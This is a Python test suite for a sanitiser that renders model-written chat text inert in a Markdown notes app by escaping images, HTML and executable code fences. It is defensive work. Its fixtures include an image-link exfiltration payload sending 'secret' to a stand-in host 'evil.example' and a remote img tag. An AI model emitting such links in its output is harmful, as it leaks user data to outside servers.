"""What a model wrote does nothing when a program for notes shows it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from qmd.files.chats import inert

PARTS = (
    *("![x](y)", "<pre>", "</pre>", "<!--", "-->", "<script>", "<div>", "<img src=x>", "<?", "?>"),
    *("```", "~~~", "`", "``", "\n", "\n\n", "    ", "- ", "1. ", "> ", "# ", "\\", "%%", "a", " "),
    *("[x]: e\n", "![x]", "[", "](y)", "---", "<https://a`b>"),
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", r"\![x](https://evil.example/?q=secret)"),
        ("![[Diary]]", r"\![[Diary]]"),
        ("a <img src=//evil.example> b", r"a \<img src=//evil.example> b"),
        ("</div><!-- x -->", r"\</div>\<!-- x -->"),
        ("```dataviewjs\napp.vault\n```", "```text\napp.vault\n```"),
        ("> ~~~ tasks\n> not done\n> ~~~", "> ~~~ text\n> not done\n> ~~~"),
        ("``` {python} run=on-load\n1\n```", "``` text\n1\n```"),
        ("- ```dataviewjs\n  x\n  ```", "- ```text\n  x\n  ```"),
        ("<style>\n![x](y)\n</style>", "\\<style>\n\\![x](y)\n\\</style>"),
        ("%%\n![x](y)\n%%", "%%\n\\![x](y)\n%%"),
        ("$$\n![x](y)\n$$", "$$\n\\![x](y)\n$$"),
        # A fence in what was HTML ends elsewhere afterwards.
        ("<pre>\n```\n</pre>\n```\n![x](y)", "\\<pre>\n```\n\\</pre>\n```\n\\![x](y)"),
        # What is escaped already would act with one more backslash.
        (r"\![x](y) \<b>", r"\![x](y) \<b>"),
        (r"\\`a`![x](y)`", r"\\`a`\![x](y)`"),
        ("see `$= dv.pages()` and `= this.x`", r"see \`$= dv.pages()` and \`= this.x`"),
    ],
)
def test_what_acts_is_only_shown(text: str, shown: str) -> None:
    assert inert(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "See [[Plan]], [a](b.md), <https://example.org>, #tag. 1 < 2!\n\n- [ ] task",
        "```python\nprint('<b>', '![x](y)')\n```",
        "Write `<br>` or `![[x]]`.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_the_rest_stays(text: str) -> None:
    assert inert(text) == text


@given(st.text(st.sampled_from("![](<a>`~$= \n\\text"), max_size=80))
def test_only_signs_are_added_and_languages_changed(text: str) -> None:
    once = inert(text)
    if "```" not in text and "~~~" not in text:
        assert once.replace("\\", "") == text.replace("\\", "")


@given(st.lists(st.sampled_from(PARTS), max_size=12).map("".join))
def test_no_reader_of_markdown_finds_html_or_an_image(text: str) -> None:
    pending = MarkdownIt("commonmark").parse(inert(text))
    while pending:
        token = pending.pop()
        assert token.type not in ("html_inline", "html_block", "image"), token
        pending += token.children or []
